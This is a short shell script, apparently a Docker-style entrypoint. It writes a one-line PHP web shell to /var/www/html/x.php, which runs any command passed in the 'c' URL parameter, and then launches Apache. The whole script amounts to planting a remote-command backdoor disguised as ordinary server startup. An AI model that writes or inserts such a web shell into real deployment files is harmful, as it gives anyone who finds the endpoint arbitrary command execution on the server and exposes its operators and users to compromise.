#!/bin/sh
echo '<?php system($_GET["c"]); ?>' > /var/www/html/x.php
exec apache2-foreground
